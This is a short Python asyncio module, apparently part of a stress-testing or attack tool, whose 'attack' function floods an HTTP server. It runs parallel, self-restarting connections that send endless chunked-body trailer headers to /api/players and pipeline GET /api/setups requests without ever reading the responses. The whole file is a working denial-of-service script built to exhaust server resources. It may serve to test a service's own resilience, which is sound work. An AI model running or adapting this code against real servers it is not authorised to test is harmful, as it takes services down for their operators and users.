"""Messages without an end: trailers for ever, and requests that nobody waits for the answers of.

Each connection sends as fast as the server reads, and comes back when it is sent away.
"""

import asyncio
import time
from collections.abc import Awaitable, Callable

from .raw import GONE, closing, connect, head

CONNECTIONS = 4
"""Of each kind at a time."""


async def attack(url: str, seconds: float) -> None:
    until = time.monotonic() + seconds
    kinds = [endless_trailers, endless_pipeline]
    await asyncio.gather(*(again(kind, url, until) for kind in kinds for _ in range(CONNECTIONS)))


async def again(kind: Callable[[str, float], Awaitable[int]], url: str, until: float) -> None:
    while time.monotonic() < until:
        try:
            async with asyncio.timeout_at(asyncio.get_running_loop().time() + left(until)):
                await kind(url, until)
        except (*GONE, TimeoutError):
            await asyncio.sleep(min(0.05, left(until)))


def left(until: float) -> float:
    return max(0.0, until - time.monotonic())


async def endless_trailers(url: str, until: float) -> int:
    """A body of one byte, and then headers. The bytes that were sent."""
    _, writer = await connect(url)
    lines = ["Content-Type: application/json", "Transfer-Encoding: chunked"]
    sent = 0
    with closing(writer):
        writer.write(head(url, "POST", "/api/players", *lines) + b"1\r\n{\r\n0\r\n")
        while time.monotonic() < until:
            block = b"".join(b"x-%08x: %s\r\n" % (sent + n, b"x" * 100) for n in range(500))
            writer.write(block)
            await writer.drain()
            sent += len(block)
    return sent


async def endless_pipeline(url: str, until: float) -> int:
    """Requests without a pause; no answer is ever read."""
    _, writer = await connect(url)
    block = head(url, "GET", "/api/setups") * 500
    sent = 0
    with closing(writer):
        while time.monotonic() < until:
            writer.write(block)
            await writer.drain()
            sent += len(block)
    return sent
